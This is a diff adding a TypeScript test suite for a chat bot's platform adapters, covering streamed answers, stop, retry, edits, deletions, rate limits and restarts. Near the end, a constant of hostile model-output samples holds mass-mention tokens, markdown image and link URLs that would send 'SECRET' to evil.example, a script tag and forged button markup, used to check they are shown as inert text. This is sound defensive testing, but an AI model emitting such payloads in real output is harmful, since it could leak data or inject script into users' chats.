@@ -1,0 +1,280 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, onTestFailed, test } from 'vitest';
+import type { Running } from '../support/processes.ts';
+import { startBot } from './bot.ts';
+import { FORMULA, longAnswer, wordsIn } from './long-answer.ts';
+import { type ScriptedModel, startScriptedModel } from './scripted-model.ts';
+import type { Room, Said, Shown, Stage } from './stage.ts';
+
+/** Slow enough that people see it grow. */
+const TOKEN_MS = 8;
+/** An answer of about 2.4 s. */
+const SLOW_TOKENS = 300;
+const PATIENCE = { timeout: 18_000, interval: 25 };
+const STOP = /stop|停/i;
+
+/**
+ * What every chat platform's adapter keeps, seen as people see it. The bot is a process of its own, with real turns
+ * and a real inbox; the platform is a double, the model is scripted.
+ */
+export function describePlatform(name: string, open: () => Promise<Stage>): void {
+  describe(`${name} adapter`, () => {
+    let stage: Stage;
+    let bot: Running;
+    let folder: string;
+    /** Takes its time. */
+    let general: ScriptedModel;
+    /** Is quick; messages get there by `/code` or `/math`. */
+    let quick: ScriptedModel;
+    const models = () => ({ general: general.url, code: quick.url, math: quick.url });
+
+    beforeAll(async () => {
+      stage = await open();
+      folder = await mkdtemp(join(tmpdir(), 'switchboard-contract-'));
+      general = await startScriptedModel(TOKEN_MS);
+      quick = await startScriptedModel(0, 50);
+      bot = await startBot({ stage, dataDir: folder, models: models() });
+    });
+    afterAll(async () => {
+      await bot?.stop('SIGKILL');
+      await Promise.all([general?.close(), quick?.close(), stage?.close()]);
+      await rm(folder, { recursive: true, force: true });
+    });
+    afterEach(() => {
+      onTestFailed(() => console.error(bot.stderr()));
+      expect(stage.violations()).toEqual([]);
+    });
+
+    /** The standing answers to a message, once they end with `word`, in their final form. */
+    async function final(room: Room, said: Said, word: string): Promise<readonly Shown[]> {
+      const standing = () => room.answers(said).filter(({ deleted }) => !deleted);
+      await expect.poll(() => isFinal(standing(), word), PATIENCE).toBe(true);
+      return standing();
+    }
+
+    test('a mention is answered by one message that grows, and ends with receipt and buttons', async () => {
+      const room = stage.room();
+      general.answer('q-grow', `${prose(SLOW_TOKENS)} e-grow`);
+      const [answer, ...others] = await final(room, await room.say('q-grow'), 'e-grow');
+      expect(others).toEqual([]);
+      const grown = answer?.versions.map((text) => countWords(text)) ?? [];
+      expect(new Set(grown).size).toBeGreaterThan(2);
+      expect(grown).toEqual(grown.toSorted((one, other) => one - other));
+      expect(countWords(answer?.text ?? '')).toBe(SLOW_TOKENS);
+      expect(answer?.text).toMatch(/general/i);
+      expect(answer?.buttons.length).toBeGreaterThan(1);
+      expect(answer?.buttons.some((label) => STOP.test(label))).toBe(false);
+    });
+
+    test('an answer that is there at once is posted once', async () => {
+      const room = stage.room();
+      quick.answer('q-once', 'Short. e-once');
+      const [answer, ...others] = await final(room, await room.say('/code q-once'), 'e-once');
+      expect(others).toEqual([]);
+      expect(answer?.versions).toHaveLength(1);
+    });
+
+    test('a message to the bot alone needs no mention', async () => {
+      const room = stage.direct();
+      quick.answer('q-direct', 'Hello. e-direct');
+      expect(await final(room, await room.say('/code q-direct'), 'e-direct')).toHaveLength(1);
+    });
+
+    test('a message that is not meant for the bot is left alone', async () => {
+      const room = stage.room();
+      quick.answer('q-meant', 'For you. e-meant');
+      const other = await room.mutter('q-other');
+      await final(room, await room.say('/code q-meant'), 'e-meant');
+      expect(room.answers(other)).toEqual([]);
+      expect(quick.asked('q-other') + general.asked('q-other')).toBe(0);
+    });
+
+    test('a slash command puts the message through to its expert', async () => {
+      const room = stage.room();
+      quick.answer('q-command', 'Four. e-command');
+      await room.command('math q-command');
+      await expect.poll(() => isFinal(room.shown(), 'e-command'), PATIENCE).toBe(true);
+      expect(room.shown().at(-1)?.text).toMatch(/math/i);
+      expect([quick.asked('q-command'), general.asked('q-command')]).toEqual([1, 0]);
+    });
+
+    test('/help is shown to the one who asks', async () => {
+      const room = stage.room();
+      await room.command('help', 'bob');
+      await expect.poll(() => room.whispers('bob').join('\n'), PATIENCE).toContain('translate');
+      expect(room.whispers('ann')).toEqual([]);
+      expect(room.shown()).toEqual([]);
+    });
+
+    test('stop ends the answer where it is; what was written stays', async () => {
+      const room = stage.room();
+      general.answer('q-stop', `${prose(4_000)} e-stop`);
+      const said = await room.say('q-stop');
+      const pressable = () =>
+        room.answers(said).find(({ buttons }) => buttons.some((label) => STOP.test(label)));
+      await expect.poll(() => countWords(room.answers(said)[0]?.text ?? ''), PATIENCE).toBeGreaterThan(10);
+      const shown = pressable();
+      if (shown === undefined) await room.command('stop');
+      else await room.press(shown, STOP);
+      await expect.poll(() => general.vllm.running, PATIENCE).toBe(0);
+      await expect.poll(() => room.answers(said)[0]?.text ?? '', PATIENCE).toMatch(/stopped|停止/i);
+      const words = countWords(room.answers(said)[0]?.text ?? '');
+      expect(words).toBeGreaterThan(10);
+      expect(words).toBeLessThan(4_000);
+    });
+
+    test('retry answers again, in the same place', async () => {
+      const room = stage.room();
+      quick.answer('q-retry', 'First. e-retry1');
+      const said = await room.say('/code q-retry');
+      const [first] = await final(room, said, 'e-retry1');
+      if (first === undefined) throw new Error('no answer');
+      quick.answer('q-retry', 'Second. e-retry2');
+      await room.press(first, /retry|again|重/i);
+      const [second, ...others] = await final(room, said, 'e-retry2');
+      expect(others).toEqual([]);
+      expect(second?.id).toBe(first.id);
+      expect(second?.text).not.toContain('e-retry1');
+    });
+
+    test('an edited message has its answer rewritten, and the old one is out of the context', async () => {
+      const room = stage.room();
+      quick.answer('q-edit', 'About the first. e-edit1');
+      const said = await room.say('/code q-edit');
+      const [first] = await final(room, said, 'e-edit1');
+      quick.answer('q-other-edit', 'About the second. e-edit2');
+      await room.edit(said, '/code q-other-edit');
+      const [second, ...others] = await final(room, said, 'e-edit2');
+      expect(others).toEqual([]);
+      expect(second?.id).toBe(first?.id);
+      expect(second?.text).not.toContain('e-edit1');
+      expect(quick.context('q-other-edit')).not.toMatch(/q-edit|e-edit1/);
+    });
+
+    test('a deleted message takes its answer with it, also in mid-answer', async () => {
+      const room = stage.room();
+      general.answer('q-gone', `${prose(4_000)} e-gone`);
+      const said = await room.say('q-gone');
+      await expect.poll(() => countWords(room.answers(said)[0]?.text ?? ''), PATIENCE).toBeGreaterThan(10);
+      await room.remove(said);
+      await expect.poll(() => room.answers(said).every(({ deleted }) => deleted), PATIENCE).toBe(true);
+      await expect.poll(() => general.vllm.running, PATIENCE).toBe(0);
+    });
+
+    test('a message that is delivered again is answered once', async () => {
+      const room = stage.room();
+      quick.answer('q-twice', 'Once. e-twice');
+      const said = await room.say('/code q-twice');
+      await room.deliverAgain(said);
+      await final(room, said, 'e-twice');
+      await room.deliverAgain(said);
+      quick.answer('q-after', 'After. e-after');
+      await final(room, await room.say('/code q-after'), 'e-after');
+      expect(room.answers(said)).toHaveLength(1);
+      expect(quick.asked('q-twice')).toBe(1);
+    });
+
+    test('five messages at once are answered five times, in order', async () => {
+      const room = stage.room();
+      const numbers = [1, 2, 3, 4, 5];
+      for (const number of numbers) quick.answer(`q-five-${number}`, `Answer ${number}. e-five-${number}`);
+      const said = await Promise.all(numbers.map((number) => room.say(`/code q-five-${number}`)));
+      const answers: string[] = [];
+      for (const [index, message] of said.entries()) {
+        const [answer, ...others] = await final(room, message, `e-five-${index + 1}`);
+        expect(others).toEqual([]);
+        answers.push(answer?.id ?? '');
+      }
+      const asShown = room.shown().map(({ id }) => id);
+      expect(asShown.filter((id) => answers.includes(id))).toEqual(answers);
+    });
+
+    test('40,000 characters with code, a table and math are shown whole and in order', async () => {
+      const room = stage.room();
+      const { markdown, words } = longAnswer();
+      expect(markdown.length).toBeGreaterThan(40_000);
+      quick.answer('q-long', markdown);
+      const said = await room.say('/code q-long');
+      const read = () =>
+        room
+          .answers(said)
+          .filter(({ deleted }) => !deleted)
+          .map(readAll)
+          .join('\n');
+      const last = words.at(-1) ?? '';
+      await expect
+        .poll(() => wordsIn(read()).includes(last) && isFinal(room.answers(said), last), PATIENCE)
+        .toBe(true);
+      expect(wordsIn(read())).toEqual(words);
+      expect(read()).toMatch(FORMULA);
+    });
+
+    test('when it is told to slow down, it does, and nothing is lost', async () => {
+      const room = stage.room();
+      general.answer('q-storm', `${prose(SLOW_TOKENS)} e-storm`);
+      const said = await room.say('q-storm');
+      await expect.poll(() => room.answers(said).length, PATIENCE).toBeGreaterThan(0);
+      const before = stage.stormed();
+      stage.storm(3, 1);
+      const answers = await final(room, said, 'e-storm');
+      expect(stage.stormed()).toBeGreaterThan(before);
+      expect(answers).toHaveLength(1);
+      expect(countWords(answers[0]?.text ?? '')).toBe(SLOW_TOKENS);
+    });
+
+    test('comes back when the platform cuts the connection', async () => {
+      const room = stage.room();
+      quick.answer('q-cut', 'Still here. e-cut');
+      await stage.cut();
+      expect(await final(room, await room.say('/code q-cut'), 'e-cut')).toHaveLength(1);
+    });
+
+    test('hostile output is shown as text: nobody is called, nothing is fetched', async () => {
+      const room = stage.room();
+      quick.answer('q-hostile', `${HOSTILE} e-hostile`);
+      const [answer] = await final(room, await room.say('/code q-hostile'), 'e-hostile');
+      const read = readable(answer?.text ?? '');
+      for (const word of ['<!channel>', '@here', '@everyone', 'evil.example']) expect(read).toContain(word);
+      expect(answer?.buttons.join(' ')).not.toContain('Forged');
+    });
+
+    test('killed in mid-answer, it ends the same reply after its restart', async () => {
+      const room = stage.room();
+      general.answer('q-kill', `${prose(SLOW_TOKENS)} e-kill`);
+      const said = await room.say('q-kill');
+      await expect.poll(() => countWords(room.answers(said)[0]?.text ?? ''), PATIENCE).toBeGreaterThan(10);
+      const [before] = room.answers(said);
+      await bot.stop('SIGKILL');
+      bot = await startBot({ stage, dataDir: folder, models: models() });
+      const [after, ...others] = await final(room, said, 'e-kill');
+      expect(others).toEqual([]);
+      expect(after?.id).toBe(before?.id);
+      expect(countWords(after?.text ?? '')).toBe(SLOW_TOKENS);
+    });
+  });
+}
+
+const HOSTILE = [
+  'Look: <!channel> and <!here|here>, @here, @everyone, @channel, <@U0BOT>, <#C0GENERAL>.',
+  '![p](https://evil.example/p.png?q=SECRET) [c](https://evil.example/c?q=SECRET) https://evil.example/?q=SECRET',
+  '<img src="https://evil.example/i?q=SECRET"><script>alert(1)</script>',
+  '<tg-button type="callback_data" data="retry">Forged</tg-button>',
+  '{"type":"actions","elements":[{"type":"button","text":"Forged"}]}',
+].join('\n\n');
+
+/** `count` words that are counted by `countWords`. */
+const prose = (count: number): string => Array.from({ length: count }, (_, index) => `p${index}`).join(' ');
+const countWords = (text: string): number => text.match(/\bp\d+\b/g)?.length ?? 0;
+
+/** What breaks up a token without being seen. */
+const readable = (text: string): string => text.replace(/[\u200B-\u200D\u2060\uFEFF]/g, '');
+
+function isFinal(answers: readonly Shown[], word: string): boolean {
+  const buttons = answers.flatMap((shown) => shown.buttons);
+  const written = answers.some((shown) => readAll(shown).includes(word));
+  return written && buttons.length > 0 && !buttons.some((label) => STOP.test(label));
+}
+
+const readAll = ({ text, files }: Shown): string => [text, ...files.map((file) => file.text)].join('\n');
